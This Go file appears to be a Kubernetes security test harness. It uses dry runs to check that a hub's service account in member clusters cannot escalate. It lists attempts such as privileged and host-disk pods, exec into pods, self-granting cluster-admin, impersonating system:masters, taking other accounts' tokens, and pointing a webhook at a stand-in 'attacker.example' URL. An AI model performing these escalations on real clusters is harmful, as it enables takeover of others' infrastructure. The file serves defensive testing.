package fleet

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/plimsoll-dev/plimsoll/clusters"
	"github.com/plimsoll-dev/plimsoll/webhook"
)

// An Escape is something that whoever has the hub's token in a member might try, and must not be able to do.
type Escape struct {
	// Name says what is tried.
	Name string
	// ByRBAC: only RBAC refuses it; where the account were cluster-admin by mistake, it would work.
	ByRBAC bool

	try func(context.Context, *prisoner) error
}

// prisoner is the hub's account in a member, with what it tries its escapes on.
type prisoner struct {
	kubernetes.Interface

	config    *rest.Config
	namespace string // a tenant's
}

// dry has a request tried and not done: admission and authorization are the same.
var dry = []string{metav1.DryRunAll}

const (
	foreignPod    = "foreign"
	systemPod     = "system"
	secretName    = "unnamed" // no WebApp names it
	elsewhere     = "https://attacker.example/webhook/v1/members/x/y/pods"
	escapeTargets = "escape-targets"
)

// PrepareEscapes makes what escapes are tried on: pods, a Secret, and another's webhook configuration. It may be called again.
func (m *Member) PrepareEscapes(ctx context.Context) error {
	ignore, none := admissionregistrationv1.Ignore, admissionregistrationv1.SideEffectClassNone
	for _, object := range []client.Object{
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: escapeTargets}},
		// Pods need these; a member without controllers has none.
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: escapeTargets, Name: "default"}},
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceSystem, Name: "default"}},
		&corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: escapeTargets}, Spec: corev1.NodeSpec{Unschedulable: true}},
		pausePod(escapeTargets, foreignPod), pausePod(metav1.NamespaceSystem, systemPod),
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: escapeTargets, Name: secretName}, StringData: map[string]string{"password": "canary"}},
		&corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: escapeTargets, Name: "powerful"}},
		&appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: escapeTargets, Name: foreignPod}, Spec: appsv1.DeploymentSpec{
			Replicas: ptr.To[int32](0), Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": foreignPod}},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": foreignPod}}, Spec: pausePod("", "").Spec},
		}},
		&admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "others"}, Webhooks: []admissionregistrationv1.MutatingWebhook{{
			Name: "others.example.com", FailurePolicy: &ignore, SideEffects: &none, AdmissionReviewVersions: []string{"v1"},
			ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://127.0.0.1:1/")},
		}}},
	} {
		if err := client.IgnoreAlreadyExists(m.Client().Create(ctx, object)); err != nil {
			return fmt.Errorf("member %s: make %T %s: %w", m.Name, object, object.GetName(), err)
		}
	}
	return nil
}

func pausePod(namespace, name string) *corev1.Pod {
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Labels: map[string]string{"app": name}},
		Spec:       corev1.PodSpec{AutomountServiceAccountToken: ptr.To(false), Containers: []corev1.Container{{Name: "main", Image: "pause:1"}}},
	}
}

// TryEscapes tries all escapes with a kubeconfig of the hub, and returns what became of each: nil means that it worked. Nothing is
// changed. The webhook configuration must have been written by a hub before.
func TryEscapes(ctx context.Context, kubeconfig []byte, escapes []Escape) (map[string]error, error) {
	config, err := clientcmd.RESTConfigFromKubeConfig(kubeconfig)
	if err != nil {
		return nil, err
	}
	config.QPS = -1
	clients, err := kubernetes.NewForConfig(config)
	if err != nil {
		return nil, err
	}
	p := &prisoner{Interface: clients, config: config, namespace: escapeTargets}
	became := map[string]error{}
	for _, escape := range escapes {
		became[escape.Name] = escape.try(ctx, p)
	}
	return became, nil
}

// Refused tells whether an escape was refused for what it is, and not for some mistake in the attempt.
func Refused(err error) bool {
	return apierrors.IsForbidden(err) || err != nil && strings.Contains(err.Error(), "forbidden")
}

// Escapes are those that are known.
func Escapes() []Escape {
	all := append(podEscapes(), webhookEscapes()...)
	return append(append(all, rightsEscapes()...), workloadEscapes()...)
}

// patch is a JSON merge patch, tried.
func patch(body string) (types.PatchType, []byte, metav1.PatchOptions) {
	return types.MergePatchType, []byte(body), metav1.PatchOptions{DryRun: dry}
}

// strategic is a strategic merge patch, tried.
func strategic(body string) (types.PatchType, []byte, metav1.PatchOptions) {
	return types.StrategicMergePatchType, []byte(body), metav1.PatchOptions{DryRun: dry}
}

func podEscapes() []Escape {
	patching := func(namespace, pod, body string) func(context.Context, *prisoner) error {
		return func(ctx context.Context, p *prisoner) error {
			kind, data, options := strategic(body)
			_, err := p.CoreV1().Pods(namespace).Patch(ctx, pod, kind, data, options)
			return err
		}
	}
	creating := func(namespace string, change func(*corev1.Pod)) func(context.Context, *prisoner) error {
		return func(ctx context.Context, p *prisoner) error {
			pod := pausePod(namespace, "escaped")
			change(pod)
			_, err := p.CoreV1().Pods(namespace).Create(ctx, pod, metav1.CreateOptions{DryRun: dry})
			return err
		}
	}
	evicting := func(namespace, name string, options *metav1.DeleteOptions) func(context.Context, *prisoner) error {
		return func(ctx context.Context, p *prisoner) error {
			return p.PolicyV1().Evictions(namespace).Evict(ctx, &policyv1.Eviction{
				ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name}, DeleteOptions: options,
			})
		}
	}
	uid := &metav1.Preconditions{UID: ptr.To(types.UID("of-nobody"))}
	return []Escape{
		{Name: "replace the image of a pod in kube-system", try: patching(metav1.NamespaceSystem, systemPod, `{"spec":{"containers":[{"name":"main","image":"attacker:1"}]}}`)},
		{Name: "add a toleration to a tenant's pod", try: func(ctx context.Context, p *prisoner) error {
			_, err := p.CoreV1().Pods(escapeTargets).Patch(ctx, foreignPod, types.JSONPatchType,
				[]byte(`[{"op":"add","path":"/spec/tolerations/-","value":{"operator":"Exists"}}]`), metav1.PatchOptions{DryRun: dry})
			return err
		}},
		{Name: "take a tenant's pod into another Service by a label", try: patching(escapeTargets, foreignPod, `{"metadata":{"labels":{"app":"payments"}}}`)},
		{Name: "take a pod out of its ReplicaSet without a release", try: patching(escapeTargets, foreignPod, `{"metadata":{"labels":{"pod-template-hash":"x"}}}`)},
		{Name: "keep a pod from ending by a finalizer", try: patching(escapeTargets, foreignPod, `{"metadata":{"finalizers":["example.com/stay"]}}`)},
		{Name: "change an annotation that others read", try: patching(escapeTargets, foreignPod, `{"metadata":{"annotations":{"sidecar.istio.io/inject":"false"}}}`)},
		{Name: "end a pod by a deadline", try: patching(escapeTargets, foreignPod, `{"spec":{"activeDeadlineSeconds":1}}`)},
		{Name: "create a privileged pod in its own namespace", try: creating(Namespace, func(pod *corev1.Pod) {
			pod.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
		})},
		{Name: "create a pod with the node's disk in its own namespace", try: creating(Namespace, func(pod *corev1.Pod) {
			pod.Spec.Volumes = []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
		})},
		{Name: "create a pod in kube-system", try: creating(metav1.NamespaceSystem, func(*corev1.Pod) {})},
		{Name: "delete a tenant's pod past its disruption budget", try: func(ctx context.Context, p *prisoner) error {
			return p.CoreV1().Pods(escapeTargets).Delete(ctx, foreignPod, metav1.DeleteOptions{DryRun: dry})
		}},
		{Name: "evict a pod of kube-system", try: evicting(metav1.NamespaceSystem, systemPod, &metav1.DeleteOptions{DryRun: dry, Preconditions: uid})},
		{Name: "evict a pod by its name only", try: evicting(escapeTargets, foreignPod, &metav1.DeleteOptions{DryRun: dry})},
		{Name: "evict a pod without the time that it has to end", try: evicting(escapeTargets, foreignPod, &metav1.DeleteOptions{
			DryRun: dry, Preconditions: uid, GracePeriodSeconds: ptr.To[int64](0),
		})},
		{Name: "run a command in a pod", try: func(ctx context.Context, p *prisoner) error {
			return p.CoreV1().RESTClient().Post().Namespace(escapeTargets).Resource("pods").Name(foreignPod).SubResource("exec").
				Param("command", "id").Param("stdout", "true").Do(ctx).Error()
		}},
	}
}

func webhookEscapes() []Escape {
	// of changes the hub's configuration as the hub has written it.
	of := func(change func(*admissionregistrationv1.MutatingWebhook)) func(context.Context, *prisoner) error {
		return func(ctx context.Context, p *prisoner) error {
			all := p.AdmissionregistrationV1().MutatingWebhookConfigurations()
			found, err := all.Get(ctx, webhook.ConfigurationName, metav1.GetOptions{})
			if err != nil {
				return err
			}
			if len(found.Webhooks) == 0 {
				return fmt.Errorf("webhook configuration %s: no hub has written it yet", found.Name)
			}
			change(&found.Webhooks[0])
			body, err := json.Marshal(map[string]any{"webhooks": found.Webhooks})
			if err != nil {
				return err
			}
			kind, data, options := patch(string(body))
			_, err = all.Patch(ctx, found.Name, kind, data, options)
			return err
		}
	}
	return []Escape{
		{Name: "have pods sent to another URL", try: of(func(w *admissionregistrationv1.MutatingWebhook) { w.ClientConfig.URL = ptr.To(elsewhere) })},
		{Name: "have Secrets sent to the hub", try: of(func(w *admissionregistrationv1.MutatingWebhook) { w.Rules[0].Resources = []string{"secrets"} })},
		{Name: "have every kind sent to the hub", try: of(func(w *admissionregistrationv1.MutatingWebhook) {
			w.Rules[0].APIGroups, w.Rules[0].Resources = []string{"*"}, []string{"*"}
		})},
		{Name: "decide about pods of kube-system", try: of(func(w *admissionregistrationv1.MutatingWebhook) { w.NamespaceSelector = nil })},
		{Name: "hold the cluster up while the hub is away", try: of(func(w *admissionregistrationv1.MutatingWebhook) {
			w.FailurePolicy = ptr.To(admissionregistrationv1.Fail)
		})},
		{Name: "forget the URL, to set another one later", try: func(ctx context.Context, p *prisoner) error {
			kind, data, options := patch(`{"webhooks":[]}`)
			_, err := p.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, webhook.ConfigurationName, kind, data, options)
			return err
		}},
		{Name: "change another's webhook configuration", try: func(ctx context.Context, p *prisoner) error {
			kind, data, options := patch(`{"webhooks":[]}`)
			_, err := p.AdmissionregistrationV1().MutatingWebhookConfigurations().Patch(ctx, "others", kind, data, options)
			return err
		}},
		{Name: "delete another's webhook configuration", try: func(ctx context.Context, p *prisoner) error {
			return p.AdmissionregistrationV1().MutatingWebhookConfigurations().Delete(ctx, "others", metav1.DeleteOptions{DryRun: dry})
		}},
	}
}

func rightsEscapes() []Escape {
	const policy = "plimsoll-hub-pods"
	return []Escape{
		{Name: "delete the policy that binds it", ByRBAC: true, try: func(ctx context.Context, p *prisoner) error {
			return p.AdmissionregistrationV1().ValidatingAdmissionPolicies().Delete(ctx, policy, metav1.DeleteOptions{DryRun: dry})
		}},
		{Name: "have its policy warn in place of deny", ByRBAC: true, try: func(ctx context.Context, p *prisoner) error {
			kind, data, options := patch(`{"spec":{"validationActions":["Warn"]}}`)
			_, err := p.AdmissionregistrationV1().ValidatingAdmissionPolicyBindings().Patch(ctx, policy, kind, data, options)
			return err
		}},
		{Name: "give itself cluster-admin", try: func(ctx context.Context, p *prisoner) error {
			_, err := p.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "escaped"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
				Subjects: []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: Namespace, Name: account}},
			}, metav1.CreateOptions{DryRun: dry})
			return err
		}},
		{Name: "widen its own role", try: func(ctx context.Context, p *prisoner) error {
			kind, data, options := patch(`{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`)
			_, err := p.RbacV1().ClusterRoles().Patch(ctx, account, kind, data, options)
			return err
		}},
		{Name: "act as an administrator", ByRBAC: true, try: func(ctx context.Context, p *prisoner) error {
			config := rest.CopyConfig(p.config)
			config.Impersonate = rest.ImpersonationConfig{UserName: "admin", Groups: []string{"system:masters"}}
			clients, err := kubernetes.NewForConfig(config)
			if err != nil {
				return err
			}
			_, err = clients.CoreV1().Secrets(metav1.NamespaceSystem).List(ctx, metav1.ListOptions{Limit: 1})
			return err
		}},
		{Name: "hold a Lease in the hub's namespace", try: changingIdentity(`{"spec":{"holderIdentity":"escaped"}}`)},
		{Name: "keep the Lease of its identity from going", try: changingIdentity(`{"metadata":{"finalizers":["example.com/escaped"]}}`)},
		{Name: "keep other things in the Lease of its identity", try: changingIdentity(`{"metadata":{"annotations":{"example.com/escaped":"x"}}}`)},
		{Name: "get the token of another account", try: func(ctx context.Context, p *prisoner) error {
			_, err := p.CoreV1().ServiceAccounts(escapeTargets).CreateToken(ctx, "powerful", &authenticationv1.TokenRequest{}, metav1.CreateOptions{DryRun: dry})
			return err
		}},
		{Name: "get the token of another account by a Secret", try: func(ctx context.Context, p *prisoner) error {
			_, err := p.CoreV1().Secrets(Namespace).Create(ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "escaped", Annotations: map[string]string{corev1.ServiceAccountNameKey: "default"}},
				Type:       corev1.SecretTypeServiceAccountToken,
			}, metav1.CreateOptions{DryRun: dry})
			return err
		}},
		{Name: "read a Secret that no WebApp names", ByRBAC: true, try: func(ctx context.Context, p *prisoner) error {
			_, err := p.CoreV1().Secrets(escapeTargets).Get(ctx, secretName, metav1.GetOptions{})
			return err
		}},
		{Name: "weaken Pod Security of its namespace", try: func(ctx context.Context, p *prisoner) error {
			kind, data, options := patch(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`)
			_, err := p.CoreV1().Namespaces().Patch(ctx, Namespace, kind, data, options)
			return err
		}},
		{Name: "run a Job as another account", try: func(ctx context.Context, p *prisoner) error {
			pod := pausePod("", "").Spec
			pod.RestartPolicy, pod.ServiceAccountName = corev1.RestartPolicyNever, "powerful"
			_, err := p.BatchV1().Jobs(escapeTargets).Create(ctx, &batchv1.Job{
				ObjectMeta: metav1.ObjectMeta{Name: "escaped"}, Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: pod}},
			}, metav1.CreateOptions{DryRun: dry})
			return err
		}},
		{Name: "take the taint from a node", try: func(ctx context.Context, p *prisoner) error {
			kind, data, options := patch(`{"spec":{"taints":null,"unschedulable":false}}`)
			_, err := p.CoreV1().Nodes().Patch(ctx, escapeTargets, kind, data, options)
			return err
		}},
	}
}

// changingIdentity changes more of the Lease than its nonce.
func changingIdentity(merge string) func(context.Context, *prisoner) error {
	return func(ctx context.Context, p *prisoner) error {
		_, err := p.CoordinationV1().Leases(Namespace).Patch(ctx, clusters.IdentityLease, types.MergePatchType, []byte(merge), metav1.PatchOptions{DryRun: dry})
		return err
	}
}

// workloadEscapes need what a member has for WebApps.
func workloadEscapes() []Escape {
	return []Escape{
		{Name: "change a Deployment that is no WebApp's", try: func(ctx context.Context, p *prisoner) error {
			kind, data, options := strategic(`{"spec":{"template":{"spec":{"containers":[{"name":"main","image":"attacker:1"}]}}}}`)
			_, err := p.AppsV1().Deployments(escapeTargets).Patch(ctx, foreignPod, kind, data, options)
			return err
		}},
		{Name: "run a privileged Deployment as a WebApp's", try: func(ctx context.Context, p *prisoner) error {
			labels := map[string]string{"app": "escaped"}
			pod := pausePod("", "").Spec
			pod.ServiceAccountName, pod.HostPID = "escaped", true
			pod.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
			_, err := p.AppsV1().Deployments(escapeTargets).Create(ctx, &appsv1.Deployment{
				ObjectMeta: metav1.ObjectMeta{Name: "escaped", OwnerReferences: []metav1.OwnerReference{{
					APIVersion: "apps.plimsoll.dev/v1", Kind: "WebApp", Name: "escaped", UID: "of-nobody", Controller: ptr.To(true),
				}}},
				Spec: appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: labels}, Template: corev1.PodTemplateSpec{
					ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: pod,
				}},
			}, metav1.CreateOptions{DryRun: dry})
			return err
		}},
		{Name: "take over another's Service", try: func(ctx context.Context, p *prisoner) error {
			kind, data, options := patch(`{"spec":{"externalIPs":["10.1.2.3"]}}`)
			_, err := p.CoreV1().Services(metav1.NamespaceDefault).Patch(ctx, "kubernetes", kind, data, options)
			return err
		}},
	}
}
